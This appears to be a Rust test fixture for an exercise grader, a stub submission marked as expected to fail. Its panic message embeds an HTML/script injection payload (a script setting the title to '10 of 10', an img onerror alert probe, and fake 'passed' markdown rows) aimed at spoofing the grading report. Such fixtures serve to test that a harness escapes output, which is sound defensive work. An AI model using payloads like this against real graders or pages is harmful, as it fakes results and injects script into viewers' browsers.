// exercise: naive
// expected: fails sum, no-copy?, parallel
// Panics with the source of a page.
use common::exercise::*;

pub fn parallel_sum(numbers: &Numbers, workers: usize) -> i64 {
    panic!("{workers} {numbers:?} </pre></td><script>document.title='10 of 10'</script>--><img src=x onerror=alert(1)>\n# 10 of 10\n```\n|passed|10|");
}
